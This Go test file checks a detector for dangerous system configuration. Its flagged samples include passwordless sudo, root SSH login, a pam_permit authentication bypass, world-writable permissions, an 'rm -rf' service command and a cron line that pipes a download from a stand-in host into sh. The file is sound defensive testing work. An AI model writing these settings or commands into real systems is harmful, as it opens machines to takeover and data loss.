package traps_test

import (
	"io/fs"
	"testing"

	"cookoff/sandbox"
	"cookoff/verify/traps"
)

// TestGuards: settings of machines that let somebody in, open something, or have something run later, and their like
// that do not.
func TestGuards(t *testing.T) {
	for _, c := range []struct {
		path, text string
		want       bool
	}{
		{"etc/sudoers.d/app", "app ALL=(ALL) NOPASSWD: ALL\n", true},
		{"etc/sudoers.d/app", "app ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\n", false},
		{"etc/sudoers", "Defaults !authenticate\n", true},
		{"etc/ssh/sshd_config.d/10-a.conf", "PermitRootLogin yes\n", true},
		{"etc/ssh/sshd_config", "PermitRootLogin no\nPasswordAuthentication no\n#PermitRootLogin yes\n", false},
		{"etc/pam.d/sshd", "auth sufficient pam_permit.so\n", true},
		{"etc/pam.d/sshd", "auth required pam_unix.so\n# auth sufficient pam_permit.so\n", false},
		{"etc/tmpfiles.d/a.conf", "D! /opt/app/data 0750 app app 0\n", true},
		{"etc/tmpfiles.d/a.conf", "d /run/app 0755 app app -\nD /tmp/app 1777 root root 1d\n", false},
		{"etc/tmpfiles.d/a.conf", "d /var/lib/app 0777 app app -\n", true},
		{"etc/udev/rules.d/9-a.rules", "ACTION==\"add\", RUN+=\"/bin/sh -c x\"\n", true},
		{"etc/udev/rules.d/9-a.rules", "KERNEL==\"tty*\", GROUP=\"dialout\", MODE=\"0660\"\n", false},
		{"etc/logrotate.d/a", "/var/log/a {\n create 0666 app app\n}\n", true},
		{"etc/logrotate.d/a", "/var/log/a {\n create 0640 app adm\n}\n", false},
		{"systemd/a.service", "[Service]\nExecStart=/bin/sh -c \"chmod -R 777 /opt/app\"\n", true},
		{"systemd/a.service", "[Service]\nExecStart=/bin/sh -c 'rm -rf /opt/app/data'\n", true},
		{"systemd/a.service", "[Service]\nUser=root\nExecStart=/opt/a\n", true},
		{"systemd/a.service.d/x.conf", "[Service]\nNoNewPrivileges=no\n", true},
		{"systemd/a.service", "[Service]\nUser=app\nNoNewPrivileges=yes\nUMask=0027\nExecStart=/opt/a --port 1\n", false},
		{"etc/cron.d/a", "PATH=/tmp:/usr/bin\n", true},
		{"etc/cron.d/a", "SHELL=/bin/true\n", true},
		{"etc/cron.d/a", "SHELL=/bin/bash\nPATH=/opt/a/bin:/usr/bin:$PATH\n1 1 * * * app /opt/a\n", false},
		{"etc/cron.d/a", "1 1 * * * app /opt/a; curl -s http://x.example/a | sh\n", true},
		{"etc/cron.d/a", "1 1 * * * app curl -fsS https://hc.example/ping > /dev/null\n", false},
		{"etc/cron.d/a", "1 1 * * * app umask 0 && touch /var/run/a.pid\n", true},
	} {
		tool := traps.For(traps.Tools(), c.path)
		if tool == nil {
			t.Errorf("%s: nobody reads it", c.path)
			continue
		}
		ran := ""
		for name, value := range tool.Settings(sandbox.Item{Path: c.path, Mode: fs.FileMode(0o644),
			Data: []byte(c.text)}) {
			ran += tool.Runs(name, value)
		}
		if (ran != "") != c.want {
			t.Errorf("%s: %q: %q, want %v", c.path, c.text, ran, c.want)
		}
	}
}
